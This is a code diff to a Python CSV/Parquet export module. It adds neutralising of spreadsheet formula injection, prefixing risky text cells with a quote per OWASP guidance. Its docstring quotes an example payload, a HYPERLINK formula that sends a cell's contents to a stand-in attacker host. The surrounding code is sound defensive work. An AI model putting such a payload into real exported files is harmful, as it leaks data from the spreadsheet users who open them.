@@ -2,6 +2,13 @@
 
 What "deterministic" means here (and which CSV conventions auditors can rely on) is described in the
 docstring of `store.py`.
+
+CSV formula injection: an auditor opens the CSV in Excel or LibreOffice, which execute a cell that
+starts with `=`, `+`, `-` or `@` (and, through some import paths, a tab or carriage return), e.g. a
+user named `=HYPERLINK("https://evil.invalid/?q="&A1,"click")`. Following OWASP's guidance, every
+*text* cell that starts with one of those characters gets a leading `'` in the CSV, which
+spreadsheets show as text. Numbers, booleans and timestamps are never text cells, so `-5` in a
+numeric column stays `-5`. The Parquet file keeps the exact value; the CSV is the human copy.
 """
 
 from __future__ import annotations
@@ -77,6 +84,21 @@ def parquet_bytes(table: pa.Table) -> bytes:
 CSV_BATCH_ROWS = 100_000
 SPOOL_LIMIT = 16 * 1024 * 1024
 
+# The first characters that make a spreadsheet evaluate a cell (OWASP "CSV Injection"), and the
+# prefix that makes it text instead. RE2 syntax (Arrow's regex engine).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_PREFIX = "'"
+_FORMULA_CELL = r"^([=+\-@\t\r])"
+
+
+def neutralise_formulas(column: pa.Array) -> pa.Array:
+    """A text column with `'` put before every value that starts with a formula character."""
+    return pc.replace_substring_regex(column, _FORMULA_CELL, FORMULA_PREFIX + r"\1", max_replacements=1)
+
+
+def _is_text(typ: pa.DataType) -> bool:
+    return pa.types.is_string(typ) or pa.types.is_large_string(typ)
+
 
 def _csv_ready(batch: pa.RecordBatch) -> pa.RecordBatch:
     columns = []
@@ -85,8 +107,14 @@ def _csv_ready(batch: pa.RecordBatch) -> pa.RecordBatch:
             column = _iso_timestamp_array(column)
         elif pa.types.is_date(column.type):
             column = column.cast(pa.string())
+        elif pa.types.is_dictionary(column.type) and _is_text(column.type.value_type):
+            column = neutralise_formulas(column.cast(column.type.value_type))
+        elif _is_text(column.type):
+            column = neutralise_formulas(column)
         elif not _csv_writable(column.type):
-            column = pa.array([None if v is None else str(v) for v in column.to_pylist()], pa.string())
+            # Lists, structs, binary...: written as their Python text, which can start with anything.
+            text = pa.array([None if v is None else str(v) for v in column.to_pylist()], pa.string())
+            column = neutralise_formulas(text)
         columns.append(column)
     return pa.RecordBatch.from_arrays(columns, names=batch.schema.names)
 
